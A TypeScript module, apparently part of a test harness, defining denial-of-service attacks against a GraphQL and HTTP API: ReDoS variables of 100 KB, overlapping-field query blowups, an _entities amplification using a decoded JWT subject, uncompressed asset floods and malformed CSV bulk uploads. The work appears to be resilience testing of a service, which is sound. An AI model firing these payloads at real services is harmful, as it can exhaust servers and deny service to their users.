/** Attacks with complete requests that are expensive to answer. */
import type { Target } from "../target.ts";
import type { Attack } from "./attack.ts";

const JSON_TYPE = { "content-type": "application/json" };

/** Sends requests to a path sequentially on a few connections. */
async function ask(target: Target, width: number, request: () => { path: string; init: RequestInit }) {
  const one = async () => {
    while (!target.signal.aborted) {
      const { path, init } = request();
      await target.fetch(path, init);
    }
  };
  await Promise.all(Array.from({ length: width }, one));
}

function graphql(body: unknown, token?: string) {
  const headers = token === undefined ? JSON_TYPE : { ...JSON_TYPE, authorization: `Bearer ${token}` };
  return { path: "/graphql", init: { method: "POST", headers, body: JSON.stringify(body) } };
}

const UPDATE = "mutation($i: UpdateProfileInput!) { updateProfile(input: $i) { customer { id } } }";

/** A variable of 100 KB that repeats words of error messages. */
function repeatedWords(words: string): Attack["run"] {
  return (target) =>
    ask(target, 3, () => {
      const unlike = Math.random(); // the engine caches the last text that it has searched
      const i = `${unlike}${words.repeat(Math.floor(98_000 / words.length))}`;
      return graphql({ query: UPDATE, variables: { i } });
    });
}

const ADDRESSES = 50;

export const DOCUMENTS: Attack[] = [
  {
    name: "graphql-redos-invalid-value",
    sends: "variables of 100 KB that repeat « got invalid value »",
    port: "http",
    run: repeatedWords(" got invalid value "),
  },
  {
    name: "graphql-redos-cannot-represent",
    sends: "variables of 100 KB that repeat « cannot represent »",
    port: "http",
    run: repeatedWords(" cannot represent"),
  },
  {
    name: "graphql-overlapping-fields",
    sends: "ever new documents of 4 KB whose fields have to be compared with each other",
    port: "http",
    run: (target) =>
      ask(target, 3, () => {
        const unlike = `a${crypto.randomUUID().replaceAll("-", "")}`;
        const fields = Array.from({ length: 60 }, () => "...on Customer { id email version }").join(" ");
        return graphql({ query: `query ${unlike} { me { ${fields} ${fields} } }` });
      }),
  },
  {
    name: "graphql-entities",
    sends: "_entities with the own id 100 times, on six connections",
    port: "http",
    token: "customer",
    run: async (target) => {
      const token = target.tokens.customer;
      for (let made = 0; made < ADDRESSES; made++) {
        const input = {
          line1: "x".repeat(200),
          line2: "x".repeat(200),
          city: "x".repeat(100),
          country: "CH",
        };
        const query = "mutation($input: AddAddressInput!) { addAddress(input: $input) { address { id } } }";
        const { path, init } = graphql({ query, variables: { input } }, token);
        await target.fetch(path, init);
      }
      const { sub: id } = JSON.parse(atob(token.split(".")[1]!.replaceAll("-", "+").replaceAll("_", "/")));
      const representations = Array.from({ length: 100 }, () => ({ __typename: "Customer", id }));
      const query = `query($representations: [_Any!]!) { _entities(representations: $representations) {
        ... on Customer { id email firstName lastName addresses { id line1 line2 city state country postalCode } } } }`;
      await ask(target, 6, () => graphql({ query, variables: { representations } }, token));
    },
  },
  {
    name: "docs-scalar-js",
    sends: "GET /docs/scalar.js without gzip, on eight connections",
    port: "http",
    run: (target) =>
      ask(
        target,
        8,
        () => ({ path: "/docs/scalar.js", init: { headers: { "accept-encoding": "identity" } } }),
      ),
  },
  {
    name: "bulk-csv-quotes",
    sends: "CSV of 128 KB that opens a quote in each line",
    port: "http",
    token: "manager",
    run: (target) => ask(target, 1, () => bulk(target, `x","\n`)),
  },
  {
    name: "bulk-csv-wrong-rows",
    sends: "CSV of 128 KB of short wrong rows",
    port: "http",
    token: "manager",
    run: (target) => ask(target, 1, () => bulk(target, "xxxxx\n")),
  },
];

function bulk(target: Target, line: string) {
  const headers = { "content-type": "text/csv", authorization: `Bearer ${target.tokens.manager}` };
  const body = `email\n${line.repeat(Math.floor(131_072 / line.length))}`;
  return { path: "/customers/bulk", init: { method: "POST", headers, body } };
}
